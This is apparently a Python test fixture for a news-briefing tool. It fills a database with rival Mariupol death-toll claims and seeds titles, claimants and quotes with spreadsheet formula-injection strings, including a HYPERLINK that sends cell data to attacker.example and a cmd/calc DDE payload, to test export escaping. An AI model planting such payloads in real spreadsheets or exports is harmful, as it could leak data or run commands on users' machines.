"""A small database of claims for the chart, export and ledger tests: rival claimants of one
toll over a week, a range, a single incident, and text that a spreadsheet would run as a formula
(in titles, claimants, what is counted, speakers and quotes)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from briefings.conflicts import load_conflicts
from briefings.models import Extraction, Figure, Quote, Story
from briefings.store import Store
from briefings.topics import load_topics
from tests.bot.support import ROOT

BASE = datetime(2024, 5, 6, 9, 0, tzinfo=UTC)
FORMULAS = ('=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2")


def _story(n: int, title: str) -> Story:
    when = BASE + timedelta(days=n)
    return Story(
        id=f"claims{n}", source_id="wire", outlet="Steppe Wire", title=title,
        url=f"https://steppe-wire.example/{n}", guid=None, published=when, fetched=when,
        summary="", text=f"{title}. Russian shelling of Mariupol went on, officials said.",
        text_origin="feed", cluster_id=f"claims{n}",
    )


def _figure(value, claimant, *, low=None, high=None, approx="exact", what="civilians killed",
            scope=None, kind="killed", where="Mariupol", whose=None) -> Figure:
    return Figure(value=value, low=low, high=high, approx=approx, what=what, kind=kind,
                  where=where, claimant=claimant, whose=whose, scope=scope,
                  sentence=f"{claimant} put the toll at {value}.")


STORIES = (
    (0, "Mariupol council counts 1,210 civilians killed", (
        _figure(1210, "Mariupol city council"),
        _figure(900, "Denis Pushilin", what="people killed"),
    ), (Quote("The city will count every one of them", "Vadym Boichenko", "said", ""),)),
    (3, FORMULAS[0] + " Mariupol toll passes 1,600", (
        _figure(1640, "Mariupol city council"),
        _figure(1000, "Denis Pushilin", low=1000, high=1300, approx="between",
                what="people killed"),
        _figure(40, "Local officials", scope="incident", what="people killed in one strike"),
    ), (Quote(FORMULAS[4] + " is not how we count the dead", "Vadym Boichenko", "said", ""),
        Quote("We see no such numbers", FORMULAS[1], "said", ""))),
    (6, "Mariupol toll rises to 2,050, council says", (
        _figure(2050, "Mariupol city council"),
        _figure(1100, FORMULAS[3], what=FORMULAS[2]),
    ), (Quote("-" + "The shelling has not stopped for a day", "Vadym Boichenko", "said", ""),)),
)


def write_claims_db(path: Path) -> Path:
    """Write the claims above into a new Sitrep database at `path`."""
    topics = load_topics(ROOT / "config" / "topics.toml")
    store = Store(path, topics, load_conflicts(ROOT / "config" / "conflicts.toml"))
    for n, title, figures, quotes in STORIES:
        story = _story(n, title)
        store.add_story(story, [f"url:{story.url}"], None)
        store.save_extraction(story.id, Extraction(figures, quotes), story.fetched)
    store.close()
    return path
